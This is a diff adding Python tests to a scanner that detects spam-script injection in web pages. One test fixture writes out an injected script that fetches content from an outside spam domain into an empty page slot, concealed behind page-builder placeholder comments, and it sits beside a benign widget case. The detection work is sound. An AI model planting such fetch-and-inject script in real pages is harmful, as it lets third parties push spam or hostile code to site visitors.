@@ -115,3 +115,20 @@ def test_a_guard_on_a_global_the_page_never_set_still_sees_it_unset():
             "if(/baidu/.test(document.referrer))document.title='x';}")
     run = run_scripts([(0, code)], URL, "", {"ids": {}, "tags": {"body": 1}})
     assert [e.value for e in run.effects["phone_search"] if e.kind == "title"] == ["x"]
+
+
+def test_markup_fetched_from_another_site_into_empty_slots_is_an_injection():
+    # the loader's own line-break placeholders (a page builder's) must not hide it either
+    code = ("<!-- [pb_line_break_holder] -->fetch('https://links-shop.buzz/b/ta.js').then(function(r){return r.text()})"
+            ".then(function(t){document.getElementById('slot9').innerHTML=t});<!-- [pb_line_break_holder] -->")
+    a = clean_page(page(body=BODY + f'<div id="slot9"></div><script>{code}</script>'), url=URL)
+    assert a.hijacked and "spam_script" in kinds(a)
+    assert any("links-shop.buzz" in f.evidence for f in a.findings)
+
+
+def test_a_widget_fetching_from_a_site_the_page_already_uses_stays_unflagged():
+    code = ("fetch('https://weather.example-cdn.com/w/42.html').then(function(r){return r.text()})"
+            ".then(function(t){document.getElementById('wx').innerHTML=t})")
+    extra = '<div id="wx"></div><img src="https://weather.example-cdn.com/logo.png" alt="天气">'
+    a = clean_page(page(body=BODY + extra + f"<script>{code}</script>"), url=URL)
+    assert not a.hijacked, a.findings
